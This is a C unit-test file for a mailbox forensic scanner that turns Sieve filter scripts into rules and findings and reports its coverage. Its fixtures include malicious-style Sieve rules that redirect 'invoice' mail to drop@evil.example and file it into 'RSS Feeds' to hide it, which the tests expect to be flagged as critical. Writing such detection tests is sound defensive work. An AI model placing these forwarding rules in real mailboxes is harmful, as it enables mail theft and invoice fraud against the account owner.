@@ -1,0 +1,146 @@
+/* test_scan_scripts.c - a mailbox's Sieve scripts become rules and findings; what was not read of
+ * them, or is no longer there, is said. */
+#include "check.h"
+#include "scan_box.h"
+
+static void a_script_becomes_rules_and_findings(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    scan_box_script(
+        box, "main",
+        "require [\"fileinto\"];\n# rule:[.]\nif header :contains \"subject\" \"invoice\" {\n"
+        "  redirect \"drop@evil.example\"; fileinto \"RSS Feeds\"; stop; }\n");
+    scan_box_idle_script(box, "old", "redirect :copy \"drop@evil.example\";\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
+    assert_int_equal(scan_box_worst(box, "rule-money-or-security", false), SEVERITY_CRITICAL);
+    assert_true(scan_box_worst(box, "rule-odd-name", false) >= 0);
+    assert_true(scan_box_worst(box, "rule-inactive-script", false) >= 0);
+    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "finding");
+}
+
+static void a_script_that_does_not_parse_is_not_clean(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    scan_box_script(box, "main", "keep;\nif header :contains \"subject\" {{{\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "does not parse");
+}
+
+static void a_script_that_calls_an_unknown_one_is_not_wholly_read(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    scan_box_script(box, "main", "require [\"include\"];\ninclude :personal \"other\";\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "\"other\" is called");
+    scan_box_idle_script(box, "other", "keep;\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "2 rules examined");
+}
+
+/* An acquisition that begins, and what kept it from the rules. */
+static void miss_rules(struct scan_box *box, const char *why)
+{
+    struct error err = {0};
+
+    assert_ok(casefile_begin(box->sample.cf, &err), &err);
+    assert_ok(run_begin(box->sample.cf, "acquire", "again", &box->run, &err), &err);
+    assert_ok(rule_missed(box->sample.cf, box->account, box->run, why, &err), &err);
+    assert_ok(casefile_commit(box->sample.cf, &err), &err);
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+}
+
+static void rules_that_the_newest_look_missed_are_not_called_examined(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    miss_rules(box, "cannot reach it");
+    scan_box_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "no rules have been read");
+    scan_box_script(box, "main", "keep;\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "1 rule examined");
+    miss_rules(box, "cannot reach it");
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "1 rule examined; those of owner@acme");
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "Z, the newest acquisition did not");
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, ": cannot reach it");
+    scan_box_finish(box); /* a scan sees no server */
+    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
+    scan_box_script(box, "main", "# no rule\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "holds no rules");
+    miss_rules(box, "cannot reach it");
+    scan_box_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED,
+                     "there were no rules; those of owner");
+    scan_box_script(box, "main", "discard;\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    miss_rules(box, "cannot reach it");
+    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "have not been seen since 2");
+}
+
+static void rules_of_another_mailbox_say_nothing_of_this_one(void **state)
+{
+    struct account other = {.user = "second@acme.example",
+                            .host = "mail.acme.example",
+                            .address = "",
+                            .server = "",
+                            .certificate = ""};
+    struct scan_box *box = *state;
+    struct error err = {0};
+
+    scan_box_script(box, "main", "keep;\n");
+    assert_ok(casefile_begin(box->sample.cf, &err), &err);
+    assert_ok(account_put(box->sample.cf, &other, &err), &err);
+    assert_ok(rule_missed(box->sample.cf, other.id, box->run, "refused", &err), &err);
+    assert_ok(casefile_commit(box->sample.cf, &err), &err);
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    scan_box_covered(
+        box, "rules-sieve", COVERAGE_PARTLY,
+        "1 rule examined; those of second@acme.example at mail.acme.example have never "
+        "been read: refused");
+}
+
+static void what_is_no_longer_there_is_gone_not_forgotten(void **state)
+{
+    struct scan_box *box = *state;
+    struct error err = {0};
+    int64_t second;
+
+    scan_box_script(box, "main", "redirect \"drop@evil.example\";\n");
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
+    assert_ok(casefile_begin(box->sample.cf, &err), &err);
+    assert_ok(run_begin(box->sample.cf, "acquire", "again", &second, &err), &err);
+    assert_ok(casefile_commit(box->sample.cf, &err), &err);
+    scan_box_script(box, "main", "keep;\n");
+    assert_ok(scan_detect(box->scan, second, &err), &err);
+    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), -1);
+    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", true), SEVERITY_CRITICAL);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(a_script_becomes_rules_and_findings, scan_box_open,
+                                        scan_box_close),
+        cmocka_unit_test_setup_teardown(a_script_that_does_not_parse_is_not_clean, scan_box_open,
+                                        scan_box_close),
+        cmocka_unit_test_setup_teardown(a_script_that_calls_an_unknown_one_is_not_wholly_read,
+                                        scan_box_open, scan_box_close),
+        cmocka_unit_test_setup_teardown(rules_that_the_newest_look_missed_are_not_called_examined,
+                                        scan_box_open, scan_box_close),
+        cmocka_unit_test_setup_teardown(rules_of_another_mailbox_say_nothing_of_this_one,
+                                        scan_box_open, scan_box_close),
+        cmocka_unit_test_setup_teardown(what_is_no_longer_there_is_gone_not_forgotten,
+                                        scan_box_open, scan_box_close),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
